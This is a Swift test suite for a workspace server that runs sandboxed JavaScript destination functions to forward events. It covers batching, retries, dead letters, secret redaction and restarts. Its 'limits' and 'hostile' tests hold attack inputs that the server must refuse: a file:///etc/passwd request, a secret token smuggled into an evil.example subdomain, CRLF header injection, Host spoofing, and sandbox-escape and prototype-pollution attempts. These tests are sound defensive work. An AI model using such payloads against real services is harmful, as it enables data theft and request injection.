import Foundation
import Testing
import TributaryJSON

@testable import WorkspaceCore
@testable import WorkspaceServer

/// A real server, real processes with functions, and a real receiver.
@Suite("Destination functions", .timeLimit(.minutes(30))) struct FunctionForwardingTests {
    private static let path = "/api/sources/WK/destinations/Fn"
    private static let secret = "s3cret/\"token\"+value"

    /// The code of a function with these members. It reaches the host of its setting `endpoint`.
    private static func code(_ members: String, secrets: String = "{ token: { required: true } }") -> String {
        """
        class Fn extends Destination {
          static settings = { endpoint: { required: true, description: "Address of the receiver" }, limit: { type: "number", default: 3 } };
          static secrets = \(secrets);
          static hosts = ["{endpoint}"];
          \(members)
        }
        """
    }

    private static func body(_ code: String, _ url: String, more: JSONObject = [:], own: JSONObject = [:]) -> JSON {
        var settings: JSONObject = ["code": .string(code), "settings": ["endpoint": .string(url)]]
        for (name, value) in own { settings[name] = value }
        var body: JSONObject = [
            "kind": "function", "settings": .object(settings), "secrets": ["token": .string(Self.secret)],
        ]
        for (name, value) in more { body[name] = value }
        return .object(body)
    }

    /// Runs a workspace and a receiver.
    private func serve(
        writeKeys: [String] = ["WK"], folder: TemporaryFolder? = nil, receiver: Receiver = Receiver(),
        _ body: (TestWorkspace, Receiver, String) async throws -> Void
    ) async throws {
        try await receiver.run { url in
            try await TestWorkspace.run(
                in: folder, writeKeys: writeKeys, program: CommandRun.executable.path
            ) { workspace async throws in try await body(workspace, receiver, url) }
        }
    }

    /// Stores the destination, and expects that it is made.
    private func make(
        _ client: TestClient, _ code: String, _ url: String, more: JSONObject = [:], own: JSONObject = [:],
        path: String = path
    ) async throws {
        let answer = try await client.put(path, Self.body(code, url, more: more, own: own).description)
        #expect(answer.status == 201, "\(answer.text)")
    }

    private func reasons(_ workspace: TestWorkspace, _ count: Int) async throws -> [String] {
        _ = try await workspace.until(Self.path) { $0["deadLetters"]?.intValue == count }
        let letters = try await workspace.client.get(Self.path + "/dead-letters").json["deadLetters"]?.elements ?? []
        return letters.compactMap { $0["reason"]?.stringValue }
    }

    @Test("Each type of event becomes the request of its method, with settings, secrets and helpers")
    func types() async throws {
        try await serve { workspace, receiver, url in
            let code = Self.code(
                """
                track(event, settings) {
                  return request("POST", `${settings.endpoint}/track?key=${secret("token")}`, {
                    headers: { Authorization: bearer(secret("token")), "X-User": event.userId },
                    body: { name: event.event, at: [millis(event), seconds(event)], hash: sha256("Grüße 🎉"), limit: settings.limit,
                      inside: `<${secret("token")}>` } });
                }
                identify(event, settings) {
                  return request("PUT", settings.endpoint + "/identify", {
                    headers: { Authorization: basic("user", secret("token")) },
                    form: { mail: "a b@example.com", token: secret("token"), list: [1, true], none: null } });
                }
                page(event, settings) { return request("DELETE", `${settings.endpoint}/page`, {}); }
                screen(event, settings) { return [
                  request("POST", settings.endpoint + "/one", { body: "plain" }),
                  request("POST", settings.endpoint + "/two", { body: secret("token"), headers: { "Content-Type": "text/x" } })]; }
                group() { return null; }
                """)
            try await make(workspace.client, code, url, own: ["parallelRequests": 1])
            try await workspace.client.batch([
                Events.track(messageId: "m-1"), ["type": "identify", "userId": "u-1", "messageId": "m-2"],
                ["type": "page", "userId": "u-1", "messageId": "m-3", "name": "Home"],
                ["type": "screen", "userId": "u-1", "messageId": "m-4", "name": "Home"],
                ["type": "group", "userId": "u-1", "groupId": "g", "messageId": "m-5"],
                ["type": "alias", "userId": "u-1", "previousId": "p", "messageId": "m-6"],
            ])
            let got = await receiver.accepts(5)
            #expect(got.map(\.path) == ["/track", "/identify", "/page", "/one", "/two"])
            #expect(got[0].headers["authorization"] == "Bearer \(Self.secret)")
            #expect(got[0].headers["content-type"] == "application/json")
            #expect(got[0].headers["x-user"] == "u-1")
            #expect(got[0].event["at"] == [1_795_222_800_000, 1_795_222_800])
            // From another program, of the bytes of UTF-8.
            #expect(got[0].event["hash"] == "256a26d0aef0ecbad268b180bed1d21f431f8cf56850138ebc659f30cb90988b")
            #expect(got[0].event["limit"] == 3)
            #expect(got[0].event["inside"]?.stringValue == "<\(Self.secret)>")
            let basic = Data("user:\(Self.secret)".utf8).base64EncodedString()
            #expect(got[1].headers["authorization"] == "Basic \(basic)")
            #expect(got[1].headers["content-type"] == "application/x-www-form-urlencoded")
            #expect(
                String(decoding: got[1].body, as: UTF8.self)
                    == "mail=a+b%40example.com&token=s3cret%2F%22token%22%2Bvalue&list=1&list=true")
            #expect(got[2].body.isEmpty)
            #expect(String(decoding: got[3].body, as: UTF8.self) == "plain")
            #expect(String(decoding: got[4].body, as: UTF8.self) == Self.secret)
            #expect(got[4].headers["content-type"] == "text/x")
            // What the function leaves out has arrived, too.
            let state = try await workspace.until(Self.path) { $0["delivered"] == 6 && $0["caughtUp"] == true }
            #expect(state["deadLetters"] == 0)
            #expect(state["secrets"] == ["token"])
            #expect(state["settings"]?["declaration"]?["types"] == ["track", "identify", "page", "screen", "group"])
            #expect(state["settings"]?["declaration"]?["class"] == "Fn")
        }
    }

    @Test("A batch takes events of all types together, and one that is refused is halved")
    func batches() async throws {
        let receiver = Receiver { delivery, _ in
            String(decoding: delivery.body, as: UTF8.self).contains("bad")
                ? Receiver.Answer(status: 400, body: "no") : Receiver.Answer()
        }
        try await serve(receiver: receiver) { workspace, receiver, url in
            let code = Self.code(
                """
                static batchEvents = 4;
                batch(events, settings) {
                  return request("POST", settings.endpoint, { body: events.map((event) => event.messageId) });
                }
                """)
            try await make(workspace.client, code, url, more: ["enabled": false], own: ["parallelRequests": 1])
            try await workspace.client.batch(
                (0..<10).map { Events.track(messageId: $0 == 5 ? "bad" : "m-\($0)", userId: "u-\($0)") })
            #expect(try await workspace.client.put(Self.path, #"{"enabled":true}"#).status == 200)
            let state = try await workspace.until(Self.path) { $0["delivered"] == 9 && $0["deadLetters"] == 1 }
            #expect(state["settings"]?["declaration"]?["batchEvents"] == 4)
            let ids = receiver.accepted.flatMap { $0.event.elements?.compactMap(\.stringValue) ?? [] }
            #expect(Set(ids) == Set((0..<10).filter { $0 != 5 }.map { "m-\($0)" }))
            #expect(receiver.accepted.allSatisfy { ($0.event.elements?.count ?? 0) <= 4 })
            #expect(receiver.accepted.contains { ($0.event.elements?.count ?? 0) > 1 })
            #expect(try await reasons(workspace, 1) == ["400 Bad Request: no"])
        }
    }

    @Test("A status that the class calls a refusal makes a dead letter, and the events behind it go on")
    func refusals() async throws {
        let receiver = Receiver { delivery, _ in
            String(decoding: delivery.body, as: UTF8.self) == "unknown"
                ? Receiver.Answer(status: 404, body: "no such user") : Receiver.Answer()
        }
        try await serve(receiver: receiver) { workspace, receiver, url in
            let code = Self.code(
                """
                static refusals = [404];
                track(event, settings) { return request("POST", settings.endpoint, { body: event.event }); }
                """)
            try await make(workspace.client, code, url, own: ["parallelRequests": 1])
            try await workspace.client.batch(
                ["unknown", "known"].map { Events.track(messageId: $0, name: $0) })
            #expect(await receiver.accepts(1).map { String(decoding: $0.body, as: UTF8.self) } == ["known"])
            #expect(try await reasons(workspace, 1) == ["404 Not Found: no such user"])
        }
    }

    @Test("A function reads what an answer of success refuses: these events are dead letters, and others are delivered")
    func readAnswers() async throws {
        let receiver = Receiver { delivery, _ in
            let events = delivery.event["events"]?.elements ?? []
            let refused = events.filter { $0.stringValue?.hasPrefix("bad") == true }
            let body: JSON = ["failed": .array(refused), "key": .string(Self.secret)]
            return Receiver.Answer(status: 200, body: body.description)
        }
        try await serve(receiver: receiver) { workspace, receiver, url in
            let code = Self.code(
                """
                static batchEvents = 10;
                batch(events, settings) {
                  const names = events.map((event) => event.messageId);
                  return request("POST", settings.endpoint, { headers: { "X-Key": secret("token") }, body: { events: names } });
                }
                answered({ status, json, body, number }, events, settings) {
                  const failed = events.filter((event) => json.failed.includes(event.messageId));
                  if (failed.length > 0) throw new Refused(`${status} ${number} ${settings.limit} ${json.key}`, failed);
                  return `all ${events.length} of ${body.length > 10}`;
                }
                """)
            try await make(workspace.client, code, url, more: ["enabled": false], own: ["parallelRequests": 1])
            try await workspace.client.batch(
                (0..<10).map { Events.track(messageId: [2, 5].contains($0) ? "bad-\($0)" : "m-\($0)", userId: "u-1") })
            #expect(try await workspace.client.put(Self.path, #"{"enabled":true}"#).status == 200)
            let state = try await workspace.until(Self.path) { $0["delivered"] == 8 && $0["deadLetters"] == 2 }
            #expect(state["settings"]?["declaration"]?["readsAnswers"] == true)
            // The service has taken the others, so nothing is sent twice.
            let sent = receiver.accepted.flatMap { $0.event["events"]?.elements ?? [] }.compactMap(\.stringValue)
            #expect(sent == (0..<10).map { [2, 5].contains($0) ? "bad-\($0)" : "m-\($0)" })
            // The service repeats the secret, which the script does not see.
            #expect(try await reasons(workspace, 2) == Array(repeating: "200 0 3 {{secret:token}}", count: 2))
            try await workspace.client.batch([Events.track(messageId: "m-11", userId: "u-1")])
            _ = try await workspace.until(Self.path) { $0["delivered"] == 9 }
        }
    }

    @Test("After RetryLater in answered the event is sent again, and after another error it is a dead letter")
    func judgeLater() async throws {
        let receiver = Receiver { delivery, attempt in
            Receiver.Answer(status: 200, body: attempt == 0 ? "busy" : "taken")
        }
        try await serve(receiver: receiver) { workspace, receiver, url in
            let code = Self.code(
                """
                track(event, settings) { return request("POST", settings.endpoint, { body: event.messageId }); }
                answered({ body, json }) {
                  if (json !== undefined) throw new Error("it is no JSON");
                  if (body === "busy") throw new RetryLater("the service is busy");
                  return body.missing.member;
                }
                """)
            try await make(workspace.client, code, url, own: ["parallelRequests": 1])
            try await workspace.client.batch([Events.track(messageId: "m-1")])
            let got = await receiver.accepts(2)
            #expect(got.map { String(decoding: $0.body, as: UTF8.self) } == ["m-1", "m-1"])
            let reason = try await reasons(workspace, 1).first ?? ""
            #expect(reason.hasPrefix("function, line 9: "), "\(reason)")
        }
    }

    @Test("An error is a dead letter with its line, and RetryLater asks for the same event again")
    func errors() async throws {
        try await serve { workspace, receiver, url in
            let code = Self.code(
                """
                track(event, settings) {
                  if (event.event === "throw") throw new Error("no channel");
                  if (event.event === "method") return request("FETCH", settings.endpoint);
                  if (event.event === "async") return Promise.resolve(null);
                  if (event.event === "value") return { method: "POST", url: settings.endpoint };
                  if (event.event === "many") return Array(11).fill(request("GET", settings.endpoint));
                  if (event.event === "secret") throw new Error("it is " + secret("token") + basic("a", secret("token")));
                  if (event.event === "name") return request("GET", settings.endpoint + secret("other"));
                  return request("POST", settings.endpoint, { body: event.event });
                }
                """)
            try await make(workspace.client, code, url, own: ["parallelRequests": 1])
            let names = ["throw", "method", "async", "value", "many", "secret", "name", "last"]
            try await workspace.client.batch(names.map { Events.track(messageId: $0, name: $0) })
            #expect(await receiver.accepts(1).map { String(decoding: $0.body, as: UTF8.self) } == ["last"])
            let reasons = try await reasons(workspace, 7)
            #expect(reasons[0] == "function, line 6: Error: no channel")
            #expect(
                reasons[1]
                    == "function, line 7: TypeError: request: the method is one of GET, POST, PUT, PATCH, DELETE, not the text "
                    + "\"FETCH\"")
            #expect(reasons[2].contains("track returned a promise"))
            #expect(reasons[3].contains("track returned an object; it returns request(…)"))
            #expect(reasons[4].contains("track returned 11 requests; at most 10 are sent"))
            #expect(
                reasons[5]
                    == "function, line 11: Error: it is {{secret:token}}Basic {{base64:a:{{secret:token}}}}")
            #expect(reasons[6].contains("static secrets has no the text \"other\"; it has token"))
        }
    }

    @Test("RetryLater asks for the same event again, and nothing is lost")
    func later() async throws {
        try await serve { workspace, receiver, url in
            let code = Self.code(
                """
                track(event, settings) {
                  globalThis.count = (globalThis.count ?? 0) + 1;
                  if (globalThis.count === 1) throw new RetryLater("the day has not begun");
                  return request("POST", settings.endpoint, { body: event.messageId });
                }
                """)
            try await make(workspace.client, code, url)
            try await workspace.client.batch([Events.track(messageId: "m-1")])
            #expect(await receiver.accepts(1).map { String(decoding: $0.body, as: UTF8.self) } == ["m-1"])
            let state = try await workspace.until(Self.path) { $0["delivered"] == 1 }
            #expect(state["deadLetters"] == 0)
        }
    }

    @Test("Only declared hosts are reached, and a request that could harm the connection is refused")
    func limits() async throws {
        let elsewhere = Receiver()
        try await elsewhere.run { other in
            try await serve { workspace, receiver, url in
                let code = Self.code(
                    """
                    track(event, settings) {
                      const hidden = settings.endpoint.replace("http://", "");
                      switch (event.event) {
                        case "host": return request("POST", "\(other)/in", { body: "x" });
                        case "second": return [request("POST", settings.endpoint), request("POST", "\(other)/in")];
                        case "login": return request("POST", `http://user:pass@${hidden}/in`);
                        case "scheme": return request("POST", `file:///etc/passwd`);
                        case "prefix": return request("POST", `${settings.endpoint}.evil.example/in`);
                        case "secret": return request("POST", `https://${secret("token")}.evil.example/in`);
                        case "line": return request("POST", settings.endpoint, { headers: { "X-A": "a\\r\\nX-B: b" } });
                        case "name": return request("POST", settings.endpoint, { headers: { "X-A: 1\\r\\nX-B": "b" } });
                        case "own": return request("POST", settings.endpoint, { headers: { Host: "evil.example" } });
                        case "huge": return request("POST", settings.endpoint, { body: "x".repeat(600000) + "x".repeat(600000) });
                        case "wide": return request("POST", settings.endpoint, { body: "ü".repeat(600000) });
                      }
                      return request("POST", settings.endpoint, { body: event.event });
                    }
                    """)
                try await make(workspace.client, code, url, own: ["parallelRequests": 1])
                let names = [
                    "host", "second", "login", "scheme", "prefix", "secret", "line", "name", "own", "huge", "wide",
                    "last",
                ]
                try await workspace.client.batch(names.map { Events.track(messageId: $0, name: $0) })
                #expect(await receiver.accepts(1).map { String(decoding: $0.body, as: UTF8.self) } == ["last"])
                let reasons = try await reasons(workspace, 11)
                let parts = [
                    "\(other) is not in static hosts", "\(other) is not in static hosts",
                    "has a user or a password in it",
                    "is no address that begins with https://", "is no port",
                    "https://{{secret:token}}.evil.example is not in",
                    "the header X-A has a line break", "cannot be the name of a header",
                    "the header Host cannot be chosen",
                    "at most 1048576 bytes", "at most 1048576 bytes",
                ]
                for (reason, part) in zip(reasons, parts) { #expect(reason.contains(part), "\(reason)") }
                #expect(receiver.deliveries.count == 1)
                #expect(elsewhere.deliveries.isEmpty)
            }
        }
    }

    @Test("No secret is in an answer, the audit log or a dead letter, also when the receiver repeats it")
    func secrets() async throws {
        let receiver = Receiver { delivery, _ in
            Receiver.Answer(
                status: 400,
                body: "bad key \(delivery.headers["x-key"] ?? ""), \(delivery.headers["authorization"] ?? "")")
        }
        try await serve(receiver: receiver) { workspace, _, url in
            let client = workspace.client
            let code = Self.code(
                """
                track(event, settings) { return request("POST", settings.endpoint, {
                  headers: { "X-Key": secret("token"), Authorization: basic("user", secret("token")) } }); }
                """)
            let made = try await client.put(Self.path, Self.body(code, url).description)
            #expect(made.status == 201)
            try await client.batch([Events.track(messageId: "m-1")])
            let reasons = try await reasons(workspace, 1)
            #expect(reasons == ["400 Bad Request: bad key {{secret}}, Basic {{secret}}"])
            let encoded = Data("user:\(Self.secret)".utf8).base64EncodedString()
            var texts = [made.text]
            for path in [Self.path, "/api/sources/WK/destinations", Self.path + "/dead-letters", "/api/audit"] {
                texts.append(try await client.get(path).text)
            }
            texts.append(try await client.post(Self.path + "/trial", [:]).text)
            texts.append(try await client.post(Self.path + "/test", [:]).text)
            for text in texts {
                #expect(!text.contains("s3cret"), "\(text)")
                #expect(!text.contains(encoded), "\(text)")
            }
            #expect(texts[0].contains(#""secrets":["token"]"#))
            // A role that only looks sees no code, in which a token may be.
            let token = try await client.post("/api/tokens", ["name": "looker", "role": "look"]).json["token"]
            let looker = TestClient(url: client.url, token: try #require(token?.stringValue))
            #expect(try await looker.get(Self.path).json["settings"]?["code"] == "…")
        }
    }

    @Test("A text of an event that looks like a placeholder is sent as it is")
    func placeholders() async throws {
        try await serve { workspace, receiver, url in
            let code = Self.code(
                """
                track(event, settings) { return request("POST", settings.endpoint, {
                  headers: { "X-Name": event.event }, body: { name: event.event, key: secret("token") } }); }
                """)
            try await make(workspace.client, code, url)
            let texts = [
                "{{secret:token}}", "{{base64:a:{{secret:token}}}}", "00112233445566778899aabbccddeeff.s.token.",
            ]
            try await workspace.client.batch(texts.map { Events.track(messageId: $0, name: $0) })
            let got = await receiver.accepts(3)
            #expect(got.compactMap { $0.event["name"]?.stringValue } == texts)
            #expect(got.compactMap { $0.headers["x-name"] } == texts)
            #expect(got.allSatisfy { $0.event["key"]?.stringValue == Self.secret })
        }
    }

    @Test("An endless script and one that takes all memory cost no other destination anything")
    func endless() async throws {
        try await serve { workspace, receiver, url in
            let client = workspace.client
            try await make(client, Self.code("track() { while (true) {} }"), url)
            let greedy = Self.code("track() { const all = []; for (;;) all.push(new Array(100000).fill(all.length)); }")
            try await make(client, greedy, url, path: "/api/sources/WK/destinations/Greedy")
            let hook = #"{"kind":"webhook","settings":{"url":"\#(url)/hook"}}"#
            #expect(try await client.put("/api/sources/WK/destinations/Hook", hook).status == 201)
            try await client.batch((0..<20).map { Events.track(messageId: "m-\($0)", userId: "u-\($0)") })
            #expect(await receiver.accepts(20).allSatisfy { $0.path == "/hook" })
            for name in ["Fn", "Greedy"] {
                let state = try await workspace.until("/api/sources/WK/destinations/\(name)") {
                    $0["state"] == "waiting" && $0["retrying"] != 0
                }
                #expect(state["reason"]?.stringValue?.hasPrefix("function: ") == true, "\(state)")
                #expect(state["deadLetters"] == 0)
            }
        }
    }

    @Test("A process that is killed in the middle of its work loses no event")
    func killed() async throws {
        try await serve(writeKeys: ["FNKILL"]) { workspace, receiver, url in
            let path = "/api/sources/FNKILL/destinations/Fn"
            let code = Self.code(
                "track(event, settings) { return request('POST', settings.endpoint, { body: event.messageId }); }")
            try await make(workspace.client, code, url, path: path)
            var killed = 0
            for round in 0..<5 {
                try await workspace.client.batch(
                    (0..<20).map { Events.track(messageId: "\(round)-\($0)", userId: "u-\(round)-\($0)") },
                    writeKey: "FNKILL")
                _ = await receiver.accepts(round * 20 + 1)
                for process in Self.workers(of: "FNKILL") {
                    kill(process, SIGKILL)
                    killed += 1
                }
            }
            let state = try await workspace.until(path) { $0["delivered"] == 100 }
            #expect(state["deadLetters"] == 0)
            #expect(killed > 0)
            let ids = Set(receiver.accepted.map { String(decoding: $0.body, as: UTF8.self) })
            #expect(ids.count == 100)
        }
    }

    @Test("Hostile scripts reach no file and no other function, and break only their own destination")
    func hostile() async throws {
        try await serve { workspace, receiver, url in
            let client = workspace.client
            let code = Self.code(
                """
                track(event, settings) {
                  const found = ["require", "process", "fetch", "XMLHttpRequest", "WebSocket", "WebAssembly", "open", "read",
                    "__function", "__sha256"].filter((name) => typeof globalThis[name] !== "undefined");
                  for (const text of ["return 1", "return secret"]) {
                    try { (() => {}).constructor(text)(); found.push("constructor"); } catch {}
                  }
                  try { settings.endpoint = "https://evil.example"; found.push("settings"); } catch {}
                  try { request = null; found.push("request"); } catch {}
                  Object.prototype.toJSON = () => ({ requests: [{ method: "POST", url: "https://evil.example" }] });
                  Array.prototype.includes = () => true;
                  String.prototype.includes = () => false;
                  Object.defineProperty(Object.prototype, "kind", { get: () => "text" });
                  return request("POST", settings.endpoint, { body: found.join() });
                }
                """)
            try await make(client, "\"use strict\";\n" + code, url)
            let fine = Self.code(
                "track(event, settings) { return request('POST', settings.endpoint + '/fine', { body: event.event }); }"
            )
            try await make(client, fine, url, path: "/api/sources/WK/destinations/Fine")
            try await client.batch([Events.track(messageId: "m-1")])
            _ = try await workspace.until("/api/sources/WK/destinations/Fine") { $0["delivered"] == 1 }
            let state = try await workspace.until(Self.path) { $0["delivered"] == 1 || $0["deadLetters"] == 1 }
            let own = receiver.deliveries.filter { $0.path != "/fine" }.map { String(decoding: $0.body, as: UTF8.self) }
            #expect(own.isEmpty || own == [""], "\(own) \(state)")
        }
    }

    @Test("Code that cannot be used is refused with the place and the reason")
    func refused() async throws {
        try await serve { workspace, _, url in
            let client = workspace.client
            func refusal(_ code: String, own: JSONObject = [:], more: JSONObject = [:]) async throws -> String {
                let answer = try await client.put(Self.path, Self.body(code, url, more: more, own: own).description)
                #expect(answer.status == 422, "\(answer.status) \(answer.text)")
                return answer.text
            }
            let track = "track() { return null; }"
            #expect(try await refusal("let a = 1;\nlet b = ;").contains("function.js, line 2: SyntaxError"))
            #expect(try await refusal("\nthrow new Error('no');").contains("function.js, line 2: Error: no"))
            #expect(try await refusal("while (true) {}").contains("was stopped after 1000 ms"))
            #expect(try await refusal("import x from 'y';").contains("line 1"))
            #expect(
                try await refusal("class A {}").contains("no class at the top level of the script extends Destination"))
            let two = Self.code(track) + "\nconst B = class extends Destination {};"
            #expect(try await refusal(two).contains("exactly one class extends Destination, not Fn, B"))
            #expect(try await refusal(Self.code("")).contains("Fn has none of the methods track"))
            #expect(
                try await refusal(Self.code(track + " static batchEvents = 5;")).contains(
                    "only for a class with batch()"))
            #expect(try await refusal(Self.code("batch() {} static batchEvents = 1001;")).contains("from 1 to 1000"))
            #expect(
                try await refusal(Self.code(track + " static refusals = [500];")).contains("statuses from 400 to 499"))
            let hosts = "class A extends Destination { static hosts = ['a b']; \(track) }"
            #expect(try await refusal(hosts, own: ["settings": [:]], more: ["secrets": [:]]).contains("is no host"))
            let none = "class A extends Destination { \(track) }"
            #expect(try await refusal(none, own: ["settings": [:]]).contains("static hosts names the hosts"))
            #expect(
                try await refusal(Self.code(track), own: ["settings": [:]]).contains(
                    "the setting endpoint is missing: Address"))
            let wrong: JSONObject = ["settings": ["endpoint": .string(url), "limit": "many"]]
            #expect(
                try await refusal(Self.code(track), own: wrong).contains("the setting limit is a number, not the text"))
            let strange: JSONObject = ["settings": ["endpoint": .string(url), "x": 1]]
            #expect(try await refusal(Self.code(track), own: strange).contains("no setting x; it has endpoint, limit"))
            #expect(try await refusal(Self.code(track), more: ["secrets": [:]]).contains("the secret token is missing"))
            #expect(
                try await refusal(Self.code(track), more: ["secrets": ["token": "a", "b": "c"]]).contains("no secret b")
            )
            #expect(try await client.get(Self.path).status == 404)
            // Requests that cannot be meant.
            for body in [
                #"{"kind":"function","settings":{}}"#, #"{"kind":"function","settings":{"code":"x","template":"y"}}"#,
                #"{"kind":"function","settings":{"template":"nothing"}}"#,
                #"{"kind":"function","settings":{"code":"x"},"secret":"y"}"#,
                #"{"kind":"function","settings":{"code":"x","timeoutSeconds":0}}"#,
                #"{"kind":"function","settings":{"code":"\#(String(repeating: "x", count: 262_145))"}}"#,
                #"{"kind":"webhook","settings":{"url":"https://example.com"},"secrets":{"a":"b"}}"#,
            ] {
                let answer = try await client.put(Self.path, body)
                #expect(answer.status == 400, "\(answer.text)")
            }
        }
    }

    @Test("Secrets and settings change alone, and a destination that is off may lack a secret")
    func changes() async throws {
        try await serve { workspace, receiver, url in
            let client = workspace.client
            let code = Self.code(
                """
                track(event, settings) { return request("POST", settings.endpoint, {
                  body: { limit: settings.limit, token: secret("token") } }); }
                """)
            try await make(client, code, url, more: ["secrets": [:], "enabled": false])
            #expect(try await client.put(Self.path, #"{"enabled":true}"#).status == 422)
            #expect(try await client.put(Self.path, #"{"enabled":true,"secrets":{"token":"first"}}"#).status == 200)
            try await client.batch([Events.track(messageId: "m-1")])
            #expect(await receiver.accepts(1).last?.event == ["limit": 3, "token": "first"])
            // The text of a command line becomes a number, and the code stays.
            var settings = try #require(try await client.get(Self.path).json["settings"]?.objectValue)
            settings["settings"] = ["endpoint": .string(url), "limit": "7"]
            let change: JSON = ["settings": .object(settings), "secrets": ["token": "second"]]
            let changed = try await client.put(Self.path, change.description)
            #expect(changed.status == 200, "\(changed.text)")
            #expect(try changed.json["settings"]?["settings"]?["limit"] == 7)
            try await client.batch([Events.track(messageId: "m-2")])
            #expect(await receiver.accepts(2).last?.event == ["limit": 7, "token": "second"])
            #expect(try await client.put(Self.path, #"{"secrets":{"token":null}}"#).status == 422)
            #expect(try await client.post(Self.path + "/secret", [:]).status == 409)
            #expect(try await client.get("/api/audit").text.contains("secret of a destination replaced"))
        }
    }

    @Test("A server that starts again goes on with the stored code and secrets")
    func restart() async throws {
        let folder = try TemporaryFolder()
        let receiver = Receiver()
        try await receiver.run { url in
            func run(_ body: (TestWorkspace) async throws -> Void) async throws {
                try await TestWorkspace.run(
                    in: folder, program: CommandRun.executable.path
                ) { workspace async throws in try await body(workspace) }
            }
            let code = Self.code(
                "track(event, settings) { return request('POST', settings.endpoint, { body: event.messageId + secret('token') }); }"
            )
            try await run { workspace in
                try await make(workspace.client, code, url)
                try await workspace.client.batch([Events.track(messageId: "m-1")])
                _ = await receiver.accepts(1)
            }
            try await run { workspace in
                try await workspace.client.batch([Events.track(messageId: "m-2")])
                #expect(
                    await receiver.accepts(2).last.map { String(decoding: $0.body, as: UTF8.self) } == "m-2"
                        + Self.secret)
            }
        }
    }

    @Test("A trial shows the requests of stored events with placeholders, and sends nothing")
    func trial() async throws {
        try await serve { workspace, receiver, url in
            let client = workspace.client
            let code = Self.code(
                """
                track(event, settings) {
                  if (event.messageId === "m-2") throw new Error("not this one");
                  return request("POST", settings.endpoint, { headers: { A: secret("token") }, body: { id: event.messageId } });
                }
                """)
            try await make(client, code, url, more: ["enabled": false])
            try await client.batch(["m-1", "m-2", "m-3"].map { Events.track(messageId: $0) })
            let answer = try await client.post(Self.path + "/trial", ["last": 3]).json
            #expect(answer["declaration"]?["class"] == "Fn")
            let calls = try #require(answer["calls"]?.elements)
            #expect(calls.map { $0["messageIds"] } == [["m-1"], ["m-2"], ["m-3"]])
            #expect(
                calls[0]["requests"]
                    == [
                        [
                            "method": "POST", "url": .string(url),
                            "headers": ["A": "{{secret:token}}", "Content-Type": "application/json"],
                            "body": ["id": "m-1"],
                        ]
                    ])
            #expect(calls[1]["error"] == "function, line 6: Error: not this one")
            let other = Self.code(
                "batch(events, settings) { return request('PUT', settings.endpoint, { body: events.length }); }")
            let tried = try await client.post(Self.path + "/trial", ["code": .string(other)]).json
            #expect(tried["calls"]?.elements?.count == 1)
            #expect(tried["calls"]?[0]?["requests"]?[0]?["body"] == 3)
            let broken = try await client.post(Self.path + "/trial", ["code": "class {"])
            #expect(broken.status == 422)
            #expect(try await client.post(Self.path + "/trial", ["last": 0]).status == 400)
            #expect(try await client.post(Self.path + "/trial", ["first": 1]).status == 400)
            #expect(receiver.deliveries.isEmpty)
            #expect(try await client.get(Self.path).json["settings"]?["code"]?.stringValue == code)
        }
    }

    @Test("The template for another workspace sends its batches there")
    func anotherWorkspace() async throws {
        try await TestWorkspace.run(writeKeys: ["THERE"]) { there async throws in
            try await serve { workspace, _, _ in
                let body: JSON = [
                    "kind": "function", "secrets": ["writeKey": "THERE"],
                    "settings": [
                        "template": "segment-compatible", "settings": ["endpoint": .string(there.client.url)],
                    ],
                ]
                let made = try await workspace.client.put(Self.path, body.description)
                #expect(made.status == 201, "\(made.text)")
                try await workspace.client.batch((0..<5).map { Events.track(messageId: "m-\($0)", userId: "u-\($0)") })
                _ = try await workspace.until(Self.path) { $0["delivered"] == 5 }
                let ids = try await there.client.events().compactMap { $0["messageId"]?.stringValue }
                #expect(ids.sorted() == (0..<5).map { "m-\($0)" })
            }
        }
    }

    @Test("A server that another program started refuses functions")
    func withoutProgram() async throws {
        try await TestWorkspace.run { workspace async throws in
            let body = Self.body(Self.code("track() {}"), "https://example.com").description
            let answer = try await workspace.client.put(Self.path, body)
            #expect(answer.status == 501, "\(answer.text)")
        }
    }

    /// The processes with functions of a source.
    private static func workers(of writeKey: String) -> [pid_t] {
        let all = (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []
        return all.compactMap { pid_t($0) }.filter { process in
            let line = (try? String(contentsOfFile: "/proc/\(process)/cmdline", encoding: .utf8)) ?? ""
            let stat = (try? String(contentsOfFile: "/proc/\(process)/stat", encoding: .utf8)) ?? ""
            let fields = stat.split(separator: ")").last?.split(separator: " ") ?? []
            return fields.count > 1 && fields[1] == "\(getpid())" && line.contains("plugin\0worker\0\(writeKey)\0")
        }
    }
}
